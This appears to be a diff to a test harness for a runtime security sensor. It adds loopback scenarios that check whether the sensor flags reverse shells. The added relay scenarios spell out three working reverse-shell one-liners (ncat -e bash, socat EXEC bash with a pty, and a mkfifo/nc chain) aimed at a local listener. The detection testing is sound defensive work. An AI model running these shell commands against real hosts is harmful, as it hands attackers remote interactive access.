@@ -75,6 +75,37 @@ async function catcher(path) {
   };
 }
 
+/**
+ * A loopback listener that sends a command the shell must compute, waits for its answer, keeps
+ * the shell alive a moment (the relay rule reads /proc of live processes), then sends "exit".
+ */
+async function commander() {
+  const sockets = new Set();
+  let answered = false;
+  const server = net.createServer((s) => {
+    sockets.add(s);
+    s.on("error", () => {});
+    let got = "";
+    s.write("echo RELAY_$((6*7))\n");
+    s.on("data", (d) => {
+      got += d.toString();
+      if (!answered && got.includes("RELAY_42")) {
+        answered = true;
+        setTimeout(() => s.end("exit\n"), 1500);
+      }
+    });
+  });
+  await /** @type {Promise<void>} */ (new Promise((resolve) => server.listen(0, "127.0.0.1", resolve)));
+  return {
+    port: /** @type {net.AddressInfo} */ (server.address()).port,
+    answered: () => answered,
+    close: () => /** @type {Promise<void>} */ (new Promise((resolve) => {
+      for (const s of sockets) s.destroy();
+      server.close(() => resolve());
+    })),
+  };
+}
+
 /** Runs a command to completion with a kill timer; stdio are node's pipes (AF_UNIX socketpairs, never inet). */
 function run(cmd, args, timeoutMs = 20_000) {
   return new Promise((resolve) => {
@@ -114,6 +145,7 @@ function summarize(f) {
     filename: ev.filename ?? null,
     profile: f.sockeye?.profile ?? null,
     verdict: f.sockeye?.verdict ?? null,
+    relay: f.sockeye?.relay ? { program: f.sockeye.relay.program?.name ?? null, remote: f.sockeye.relay.remote ?? null } : null,
   };
 }
 
@@ -230,6 +262,28 @@ async function main() {
   // AF_UNIX on fd 0: the connect hook sees it (and reads sun_path), TRC-101 stays silent.
   await scenario("unix-fd0", "none", () => [HELPER, "unix-fd0", "/tmp/sockeye-vm.sock"], "/tmp/sockeye-vm.sock");
   await scenario("nohup-no-dev-tcp", "none", () => [BASH, "-c", "nohup true >/dev/null 2>&1; true"]);
+
+  // Relay shells (RELAY-001): the listener sends a command and must get its output back.
+  async function relayScenario(name, build) {
+    const l = await commander();
+    const before = { precise: findings.precise.length, tracee: findings.tracee.length };
+    const started = Date.now();
+    const [cmd, ...args] = build(l.port);
+    const r = await run(cmd, args, 15_000);
+    await sleep(SETTLE_MS);
+    await l.close();
+    out.cases.push({
+      name, expect: "RELAY-001", port: l.port, command: [cmd, ...args], status: r.status, signal: r.signal, stderr: r.stderr,
+      answered: l.answered(), durationMs: Date.now() - started,
+      findings: findings.precise.slice(before.precise).map(summarize),
+      traceeFindings: findings.tracee.slice(before.tracee).map(summarize),
+    });
+  }
+  await relayScenario("relay-ncat-e", (p) => ["ncat", ip, String(p), "-e", BASH]);
+  await relayScenario("relay-socat-pty", (p) => ["socat", `TCP:${ip}:${p}`, "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"]);
+  await relayScenario("relay-mkfifo-chain", (p) => [
+    BASH, "-c", `F=/tmp/relay-${p}; rm -f $F; mkfifo $F; cat $F | bash -i 2>&1 | nc.traditional ${ip} ${p} > $F`,
+  ]);
 
   out.counters = sensor.counters();
   sensor.close();
